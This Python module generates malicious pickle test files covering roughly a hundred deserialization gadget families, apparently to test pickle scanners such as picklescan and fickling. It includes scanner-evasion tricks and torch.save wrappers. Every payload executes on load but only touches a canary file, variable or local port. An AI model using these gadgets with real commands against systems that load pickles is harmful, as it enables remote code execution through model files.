"""Pickles that do something when Python reads them, made on the spot: a hundred kinds, in every way to call.

Each touches something that can be seen from outside, its canary: a file in a folder, an
environment variable, a connection to a socket. The kinds are the families on the test lists of
picklescan and fickling, and more.
"""

import marshal
import os
import pickle
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from io import BytesIO
from pathlib import Path
from typing import Any

STYLES = ("reduce2", "reduce4", "inst", "obj", "newobj", "newobj_ex")
CONTAINERS = ("bare", "zip", "stream")


@dataclass(frozen=True)
class Name:
    """A global: module and name, which may be dotted."""

    module: str
    name: str


@dataclass(frozen=True)
class Call:
    """A call of a global or of what another call gives."""

    function: Any
    args: tuple[Any, ...]


def at(full_name: str) -> Name:
    """`"os:environ.update"`, or `"os.system"` where the last dot divides."""
    module, _, name = (
        full_name.partition(":") if ":" in full_name else full_name.rpartition(".")
    )
    return Name(module, name)


def call(function: Any, *args: Any) -> Call:
    return Call(at(function) if isinstance(function, str) else function, args)


@dataclass(frozen=True)
class Canary:
    """What a gadget can touch: anything new in `folder`, the variable CANARY, or the port."""

    folder: Path
    port: int = 1

    @property
    def file(self) -> str:
        return str(self.folder / "touched")

    @property
    def command(self) -> str:
        return f"touch {self.file}"

    @property
    def source(self) -> str:
        return f"open({self.file!r}, 'w')"

    @property
    def code(self) -> Call:
        return call("builtins.compile", self.source, "x", "exec")

    @property
    def pickled(self) -> bytes:
        return b"\x80\x02" + assemble(call("os.system", self.command)) + b"."

    @property
    def host(self) -> tuple[str, int]:
        return ("127.0.0.1", self.port)

    def helper(self, name: str) -> str:
        """A file that a gadget wants to be there: a module, a pickle, settings."""
        path = self.folder.parent.parent / "helpers" / self.folder.name / name
        path.parent.mkdir(parents=True, exist_ok=True)
        match path.suffix:
            case ".py":
                path.write_text(f"{self.source}\ndef entry():\n    return 1\n")
            case ".zip":
                with zipfile.ZipFile(path, "w") as archive:
                    archive.writestr("inside.py", self.source)
            case ".ini":
                path.write_text(
                    "[loggers]\nkeys=root\n[handlers]\nkeys=h\n[formatters]\nkeys=\n"
                    "[logger_root]\nhandlers=h\n[handler_h]\nclass=FileHandler\n"
                    f"args=({self.file!r},)\n"
                )
            case _:
                path.write_bytes(self.pickled)
        return str(path)


@dataclass(frozen=True)
class Gadget:
    """One kind. `fires` is False where Python needs a module, a system or an answer that may not be there."""

    name: str
    make: Callable[[Canary], Any] = field(repr=False)
    fires: bool = True


def _text(value: str) -> bytes:
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def _row(values: Any, style: str) -> bytes:
    return b"".join(assemble(value, style) for value in values)


def assemble(value: Any, style: str = "reduce2") -> bytes:
    """Opcodes that push the value, without a header and a STOP. Bytes come as they are: raw opcodes."""
    match value:
        case bytes():
            return value
        case Name(module, name) if style == "reduce4":
            return _text(module) + _text(name) + b"\x93"
        case Name(module, name):
            return f"c{module}\n{name}\n".encode()
        case Call(Name(module, name), args) if style == "inst":
            return b"(" + _row(args, style) + f"i{module}\n{name}\n".encode()
        case Call(function, args) if style == "obj":
            return b"(" + assemble(function, style) + _row(args, style) + b"o"
        case Call(function, args):
            how = {"newobj": b"\x81", "newobj_ex": b"}\x92"}.get(style, b"R")
            return assemble(function, style) + assemble(args, style) + how
        case str():
            return _text(value)
        case tuple():
            return b"(" + _row(value, style) + b"t"
        case list():
            return b"](" + _row(value, style) + b"e"
        case dict():
            return b"}(" + _row([x for pair in value.items() for x in pair], style) + b"u"
    return pickle.dumps(value, 2)[2:-1]


def raw_bytes(value: bytes) -> bytes:
    """Opcodes that push bytes."""
    return b"B" + struct.pack("<I", len(value)) + value


def whole(body: bytes, style: str = "reduce2") -> bytes:
    """A pickle of one value: header, body, STOP."""
    header = {
        "reduce4": b"\x80\x04",
        "newobj": b"\x80\x02",
        "reduce2": b"\x80\x02",
        "newobj_ex": b"\x80\x04",
    }
    return header.get(style, b"") + body + b"."


STORAGE = b"(X\7\0\0\0storagectorch\nFloatStorage\nX\1\0\0\x000X\3\0\0\0cpuK\2tQ"
TENSOR = (
    b"ctorch._utils\n_rebuild_tensor_v2\n("
    + STORAGE
    + b"K\0K\2\x85K\1\x85\x89ccollections\nOrderedDict\n)RtR"
)
STREAM_STORAGE = STORAGE.replace(b"K\2tQ", b"K\2NtQ")
NUMBERS = struct.pack("<2f", 1.0, 2.0)


def torch_zip(pickled: bytes, folder: str = "archive") -> bytes:
    """The pickle as torch.save's zip holds it, with one storage of two numbers."""
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in (
            ("data.pkl", pickled),
            ("byteorder", b"little"),
            ("data/0", NUMBERS),
            ("version", b"3\n"),
        ):
            archive.writestr(f"{folder}/{name}", data)
    return buffer.getvalue()


def torch_stream(pickled: bytes) -> bytes:
    """The pickle as torch.save wrote it before 1.6."""
    about = [
        0x1950A86A20F9469CFC6C,
        1001,
        {"protocol_version": 1001, "little_endian": True, "type_sizes": {}},
    ]
    start = b"".join(pickle.dumps(value, 2) for value in about)
    content = pickled.replace(STORAGE, STREAM_STORAGE)
    return start + content + pickle.dumps(["0"], 2) + struct.pack("<q", 2) + NUMBERS


def in_container(body: bytes, style: str, container: str) -> bytes:
    """The value alone, or beside weights that are in order."""
    if container == "bare":
        return whole(body, style)
    beside = b"}(" + _text("a") + TENSOR + _text("x") + body + b"u"
    return (torch_zip if container == "zip" else torch_stream)(whole(beside, style))


def _modules_override(c: Canary) -> bytes:
    """Put another module in the place of sys, then call by the name of sys."""
    return (
        b"csys\nmodules\nq\x000h\0"
        + _text("sys")
        + b"h\0scsys\nget\n"
        + _text("os")
        + b"\x85Rq\x010h\0"
        + _text("sys")
        + b"h\1scsys\nsystem\n"
        + _text(c.command)
        + b"\x85R"
    )


def _set_state(c: Canary) -> bytes:
    """Give a harmless object a `__setstate__` that is none, then its state."""
    return (
        b"cargparse\nNamespace\n)\x81}"
        + _text("__setstate__")
        + b"cos\nsystem\nsb"
        + _text(c.command)
        + b"b"
    )


def _extension(opcode: bytes) -> Callable[[Canary], bytes]:
    """Register os.system under a number, then call it by number."""
    return lambda c: (
        assemble(call("copyreg.add_extension", "os", "system", 200))
        + b"0"
        + opcode
        + _text(c.command)
        + b"\x85R"
    )


def _array(c: Canary) -> bytes:
    """An array of objects, one of which is a call."""
    array = call(
        "numpy.core.multiarray._reconstruct", at("numpy.ndarray"), (0,), raw_bytes(b"b")
    )
    state = (
        1,
        (1,),
        call("numpy.dtype", "O8", False, True),
        False,
        [call("os.system", c.command)],
    )
    return assemble(array) + assemble(state) + b"b"


def _code_of(c: Canary) -> bytes:
    """A code object as bytes. Marshal's format is that of the Python that runs this."""
    return raw_bytes(marshal.dumps(compile(c.source, "x", "exec")))


GADGETS = (
    # the shell
    Gadget("os.system", lambda c: call("os.system", c.command)),
    Gadget("posix.system", lambda c: call("posix.system", c.command)),
    Gadget("nt.system", lambda c: call("nt.system", c.command), fires=False),
    Gadget("os.popen", lambda c: call("os.popen", c.command)),
    Gadget("os.execlp", lambda c: call("os.execlp", "touch", "touch", c.file)),
    Gadget("os.spawnlp", lambda c: call("os.spawnlp", 0, "touch", "touch", c.file)),
    Gadget(
        "os.posix_spawnp", lambda c: call("os.posix_spawnp", "touch", ["touch", c.file], {})
    ),
    Gadget("subprocess.Popen", lambda c: call("subprocess.Popen", ["touch", c.file])),
    Gadget("subprocess.run", lambda c: call("subprocess.run", ["touch", c.file])),
    Gadget(
        "subprocess.check_output", lambda c: call("subprocess.check_output", ["touch", c.file])
    ),
    Gadget("subprocess.getoutput", lambda c: call("subprocess.getoutput", c.command)),
    Gadget("commands.getoutput", lambda c: call("commands.getoutput", c.command), fires=False),
    Gadget("pty.spawn", lambda c: call("pty.spawn", ["touch", c.file])),
    Gadget(
        "asyncio subprocess",
        lambda c: call("asyncio.run", call("asyncio.create_subprocess_shell", c.command)),
    ),
    Gadget(
        "asyncio transport",
        lambda c: call(
            "asyncio.unix_events:_UnixSubprocessTransport._start",
            {},
            c.command,
            True,
            None,
            None,
            None,
            0,
        ),
        fires=False,
    ),
    Gadget(
        "multiprocessing.util",
        lambda c: call(
            "multiprocessing.util.spawnv_passfds",
            raw_bytes(b"/usr/bin/touch"),
            ["touch", c.file],
            (),
        ),
    ),
    Gadget("imaplib.IMAP4_stream", lambda c: call("imaplib.IMAP4_stream", c.command)),
    Gadget("uuid", lambda c: call("uuid._get_command_stdout", "touch", c.file)),
    Gadget("_osx_support", lambda c: call("_osx_support._read_output", c.command)),
    Gadget(
        "_aix_support", lambda c: call("_aix_support._read_cmd_output", c.command), fires=False
    ),
    Gadget(
        "_pyrepl.pager", lambda c: call("_pyrepl.pager.pipe_pager", "", c.command), fires=False
    ),
    Gadget("pydoc.pipepager", lambda c: call("pydoc.pipepager", "", c.command)),
    Gadget("webbrowser.open", lambda c: call("webbrowser.open", c.file)),
    Gadget("import that opens a browser", lambda c: at("antigravity.geohash")),
    Gadget(
        "test.support",
        lambda c: call("test.support.script_helper.assert_python_ok", "-c", c.source),
        fires=False,
    ),
    Gadget(
        "ctypes.CDLL",
        lambda c: call(
            call("operator.methodcaller", "system", raw_bytes(c.command.encode())),
            call("ctypes.CDLL", None),
        ),
    ),
    # builtins
    Gadget("eval", lambda c: call("builtins.eval", c.source)),
    Gadget("exec", lambda c: call("builtins.exec", c.source)),
    Gadget("compile", lambda c: call("builtins.exec", c.code)),
    Gadget("Python 2's eval", lambda c: call("__builtin__.eval", c.source)),
    Gadget(
        "Python 2's apply",
        lambda c: call("__builtin__.apply", at("os.system"), (c.command,)),
        fires=False,
    ),
    Gadget("open", lambda c: call("builtins.open", c.file, "w")),
    Gadget(
        "__import__, getattr",
        lambda c: call(
            call("builtins.getattr", call("builtins.__import__", "os"), "system"), c.command
        ),
    ),
    Gadget(
        "map",
        lambda c: call("builtins.list", call("builtins.map", at("os.system"), [c.command])),
    ),
    Gadget(
        "filter",
        lambda c: call("builtins.list", call("builtins.filter", at("os.system"), [c.command])),
    ),
    Gadget("globals", lambda c: call("builtins.globals"), fires=False),
    Gadget("breakpoint", lambda c: call("builtins.breakpoint"), fires=False),
    Gadget("type", lambda c: call("builtins.type", "X", (), {}), fires=False),
    # ways to call and to reach
    Gadget(
        "functools.partial",
        lambda c: call(call("functools.partial", at("os.system"), c.command)),
    ),
    Gadget(
        "functools.reduce",
        lambda c: call("functools.reduce", at("builtins.open"), [c.file, "w"]),
    ),
    Gadget(
        "operator.methodcaller",
        lambda c: call(
            call("operator.methodcaller", "system", c.command),
            call("importlib.import_module", "os"),
        ),
    ),
    Gadget(
        "_operator.attrgetter",
        lambda c: call(
            call(call("_operator.attrgetter", "system"), call("importlib.import_module", "os")),
            c.command,
        ),
    ),
    Gadget(
        "operator.itemgetter",
        lambda c: call(
            call(call("operator.itemgetter", "os"), at("sys.modules")),
        ),
        fires=False,
    ),
    Gadget(
        "itertools.starmap",
        lambda c: call(
            "builtins.list", call("itertools.starmap", at("os.system"), [(c.command,)])
        ),
    ),
    Gadget(
        "types.FunctionType",
        lambda c: call(
            call(
                "types.FunctionType",
                c.code,
                {"__builtins__": call("importlib.import_module", "builtins")},
            )
        ),
    ),
    Gadget("types.CodeType", lambda c: call("types.CodeType", 0, 0, 0, 0, 0, 0), fires=False),
    Gadget(
        "marshal.loads", lambda c: call("builtins.exec", call("marshal.loads", _code_of(c)))
    ),
    Gadget(
        "pkgutil.resolve_name",
        lambda c: call(call("pkgutil.resolve_name", "os:system"), c.command),
    ),
    Gadget("pydoc.locate", lambda c: call(call("pydoc.locate", "os.system"), c.command)),
    Gadget(
        "weakref.finalize",
        lambda c: call(
            "weakref.finalize", at("argparse.Namespace"), at("os.system"), c.command
        ),
    ),
    Gadget("atexit.register", lambda c: call("atexit.register", at("os.system"), c.command)),
    Gadget(
        "threading.Timer",
        lambda c: call(
            "threading:Thread.start", call("threading.Timer", 0, at("os.system"), [c.command])
        ),
    ),
    Gadget(
        "contextlib",
        lambda c: call(
            "contextlib:ExitStack.callback",
            call("contextlib.ExitStack"),
            at("os.system"),
            c.command,
        ),
        fires=False,
    ),
    Gadget(
        "copyreg._reconstructor",
        lambda c: call(
            "copyreg._reconstructor", at("subprocess.Popen"), at("builtins.object"), None
        ),
        fires=False,
    ),
    Gadget("another module as sys", _modules_override),
    Gadget("__setstate__ by BUILD", _set_state),
    Gadget("EXT1", _extension(b"\x82\xc8")),
    Gadget("EXT2", _extension(b"\x83\xc8\x00")),
    Gadget("EXT4", _extension(b"\x84\xc8\x00\x00\x00")),
    Gadget("PERSID", lambda c: b"Ptouch\n", fires=False),
    Gadget(
        "BINPERSID of a call",
        lambda c: assemble(call("os.system", c.command)) + b"Q",
        fires=False,
    ),
    Gadget(
        "call whose result is dropped", lambda c: assemble(call("os.system", c.command)) + b"0N"
    ),
    Gadget(
        "name reached through a harmless module",
        lambda c: call("argparse:_os.system", c.command),
    ),
    Gadget(
        "function of a harmless module",
        lambda c: call("typing._eval_type", call("typing.ForwardRef", c.source), {}, {}),
    ),
    Gadget("gadget inside an array of objects", _array),
    Gadget(
        "gadget inside a defaultdict",
        lambda c: call("collections.defaultdict", call("os.system", c.command)),
        fires=False,
    ),
    Gadget("gadget as a key", lambda c: b"}" + assemble(call("os.system", c.command)) + b"Ns"),
    Gadget("text that is called", lambda c: _text("os.system") + b")R", fires=False),
    Gadget("memo that is empty", lambda c: b"h\x63", fires=False),
    # running Python
    Gadget("runpy.run_path", lambda c: call("runpy.run_path", c.helper("script.py"))),
    Gadget("runpy._run_code", lambda c: call("runpy._run_code", c.code, {})),
    Gadget(
        "code",
        lambda c: call(
            "code:InteractiveInterpreter.runcode", call("code.InteractiveInterpreter"), c.code
        ),
    ),
    Gadget("codeop", lambda c: call("builtins.exec", call("codeop.compile_command", c.source))),
    Gadget(
        "timeit.timeit",
        lambda c: call("timeit.timeit", c.source, "pass", at("time.perf_counter"), 1),
    ),
    Gadget("cProfile.run", lambda c: call("cProfile.run", c.source)),
    Gadget("profile.run", lambda c: call("profile.run", c.source)),
    Gadget("trace.Trace", lambda c: call("trace:Trace.run", call("trace.Trace"), c.source)),
    Gadget("bdb.Bdb", lambda c: call("bdb:Bdb.run", call("bdb.Bdb"), c.source)),
    Gadget("pdb.run", lambda c: call("pdb.run", c.source), fires=False),
    Gadget(
        "doctest.debug_script",
        lambda c: call("doctest.debug_script", c.source, True),
        fires=False,
    ),
    Gadget(
        "importlib loader",
        lambda c: call(
            "importlib.machinery:SourceFileLoader.load_module",
            call(
                "importlib.machinery.SourceFileLoader", "canary_module", c.helper("module.py")
            ),
        ),
    ),
    Gadget(
        "imp.load_source",
        lambda c: call("imp.load_source", "canary_imp", c.helper("module.py")),
    ),
    Gadget(
        "zipimport",
        lambda c: call(
            "zipimport:zipimporter.load_module",
            call("zipimport.zipimporter", c.helper("code.zip")),
            "inside",
        ),
    ),
    Gadget("idlelib.calltip", lambda c: call("idlelib.calltip.get_entity", c.source)),
    Gadget(
        "idlelib.run", lambda c: call("idlelib.run:Executive.runcode", {}, c.code), fires=False
    ),
    Gadget(
        "lib2to3 grammar",
        lambda c: call(
            "lib2to3.pgen2.grammar:Grammar.loads",
            call("lib2to3.pgen2.grammar.Grammar"),
            raw_bytes(c.pickled),
        ),
    ),
    Gadget("pip.main", lambda c: call("pip.main", ["--log", c.file, "--version"]), fires=False),
    Gadget("ensurepip", lambda c: call("ensurepip._run_pip", ["--version"]), fires=False),
    Gadget("venv.create", lambda c: call("venv.create", c.file)),
    Gadget(
        "logging.config, settings",
        lambda c: call("logging.config.fileConfig", c.helper("logging.ini")),
    ),
    Gadget(
        "logging.config, dictionary",
        lambda c: call(
            "logging.config.dictConfig",
            {
                "version": 1,
                "handlers": {"h": {"class": "logging.FileHandler", "filename": c.file}},
            },
        ),
    ),
    # pickles in pickles
    Gadget("pickle.loads", lambda c: call("pickle.loads", raw_bytes(c.pickled))),
    Gadget("_pickle.loads", lambda c: call("_pickle.loads", raw_bytes(c.pickled))),
    Gadget("torch.load", lambda c: call("torch.load", c.helper("nested.pt")), fires=False),
    Gadget(
        "torch.storage._load_from_bytes",
        lambda c: call("torch.storage._load_from_bytes", raw_bytes(torch_stream(c.pickled))),
    ),
    Gadget("numpy.load", lambda c: call("numpy.load", c.helper("nested.npy"), None, True)),
    Gadget(
        "joblib.load", lambda c: call("joblib.load", c.helper("nested.joblib")), fires=False
    ),
    Gadget(
        "pandas.read_pickle",
        lambda c: call("pandas.read_pickle", c.helper("nested.pkl")),
        fires=False,
    ),
    Gadget("dill", lambda c: call("dill._dill.loads", raw_bytes(c.pickled)), fires=False),
    Gadget(
        "cloudpickle",
        lambda c: call("cloudpickle.cloudpickle._make_function", c.code, {}, "f", (), ()),
        fires=False,
    ),
    Gadget("shelve", lambda c: call("shelve.open", c.file)),
    Gadget(
        "yaml",
        lambda c: call("yaml.unsafe_load", f"!!python/object/apply:os.system [{c.command!r}]"),
    ),
    # torch and numpy
    Gadget(
        "torch.hub",
        lambda c: call(
            "torch.hub._load_local", str(Path(c.helper("hubconf.py")).parent), "entry"
        ),
    ),
    Gadget("torch.utils.collect_env", lambda c: call("torch.utils.collect_env.run", c.command)),
    Gadget(
        "torch execWrapper",
        lambda c: call("torch.jit.unsupported_tensor_ops.execWrapper", c.source, {}, {}),
    ),
    Gadget(
        "torch bottleneck",
        lambda c: call("torch.utils.bottleneck.__main__.run_cprofile", c.code, {}),
        fires=False,
    ),
    Gadget(
        "torch storage from a file",
        lambda c: call("torch:UntypedStorage.from_file", c.file, True, 16),
    ),
    Gadget(
        "torch _dynamo",
        lambda c: call("torch._dynamo.guards:GuardBuilder.get", {}, c.source),
        fires=False,
    ),
    Gadget(
        "torch _inductor",
        lambda c: call("torch._inductor.codecache.compile_file", "", "", ["touch", c.file]),
        fires=False,
    ),
    Gadget(
        "torch.fx",
        lambda c: call("torch.fx.graph_module.reduce_graph_module", {}, ""),
        fires=False,
    ),
    Gadget(
        "torch TCPStore", lambda c: call("torch.distributed.TCPStore", *c.host), fires=False
    ),
    Gadget(
        "torch.ops", lambda c: call("torch.ops.load_library", c.helper("lib.so")), fires=False
    ),
    Gadget(
        "numpy runstring",
        lambda c: call("numpy.testing._private.utils.runstring", c.source, {}),
    ),
    Gadget(
        "numpy f2py",
        lambda c: call("numpy.f2py.crackfortran.getlincoef", c.source, {}),
        fires=False,
    ),
    Gadget("numpy.memmap", lambda c: call("numpy.memmap", c.file, "uint8", "w+", 0, (4,))),
    Gadget("numpy.savetxt", lambda c: call("numpy.savetxt", c.file, [1.0])),
    # files
    Gadget("os.open", lambda c: call("os.open", c.file, os.O_CREAT | os.O_WRONLY)),
    Gadget("os.mkdir", lambda c: call("os.mkdir", c.file)),
    Gadget("os.symlink", lambda c: call("os.symlink", "/nowhere", c.file)),
    Gadget("io.FileIO", lambda c: call("io.FileIO", c.file, "w")),
    Gadget("_io.FileIO", lambda c: call("_io.FileIO", c.file, "w")),
    Gadget("io.open", lambda c: call("io.open", c.file, "w")),
    Gadget("codecs.open", lambda c: call("codecs.open", c.file, "w")),
    Gadget("gzip.open", lambda c: call("gzip.open", c.file, "w")),
    Gadget("zipfile.ZipFile", lambda c: call("zipfile.ZipFile", c.file, "w")),
    Gadget("sqlite3.connect", lambda c: call("sqlite3.connect", c.file)),
    Gadget("shutil.copyfile", lambda c: call("shutil.copyfile", c.helper("a.py"), c.file)),
    Gadget("pathlib", lambda c: call("pathlib:Path.touch", call("pathlib.PosixPath", c.file))),
    Gadget("tempfile.mkstemp", lambda c: call("tempfile.mkstemp", "", "canary", str(c.folder))),
    Gadget("logging.FileHandler", lambda c: call("logging.FileHandler", c.file)),
    Gadget("distutils", lambda c: call("distutils.file_util.write_file", c.file, ["x"])),
    # the environment and the network
    Gadget("os.environ", lambda c: call("os:environ.update", {"CANARY": "1"})),
    Gadget("os.putenv", lambda c: call("os.putenv", "CANARY_IN_C", "1")),
    Gadget("socket", lambda c: call("socket.create_connection", c.host)),
    Gadget(
        "http.client",
        lambda c: call(
            "http.client:HTTPConnection.connect", call("http.client.HTTPConnection", *c.host)
        ),
    ),
    Gadget(
        "urllib.request",
        lambda c: call("urllib.request.urlopen", f"http://127.0.0.1:{c.port}/"),
    ),
    Gadget("ftplib", lambda c: call("ftplib:FTP.connect", call("ftplib.FTP"), *c.host)),
    Gadget("smtplib", lambda c: call("smtplib.SMTP", *c.host)),
    Gadget("poplib", lambda c: call("poplib.POP3", *c.host)),
    Gadget("ssl", lambda c: call("ssl.get_server_certificate", c.host)),
    Gadget("telnetlib", lambda c: call("telnetlib.Telnet", *c.host)),
    Gadget(
        "requests",
        lambda c: call("requests.api.get", f"http://127.0.0.1:{c.port}/"),
        fires=False,
    ),
    Gadget("aiohttp", lambda c: call("aiohttp.client.ClientSession"), fires=False),
    Gadget("os._exit", lambda c: call("os._exit", 0), fires=False),
    Gadget("sys.exit", lambda c: call("sys.exit", 0), fires=False),
)
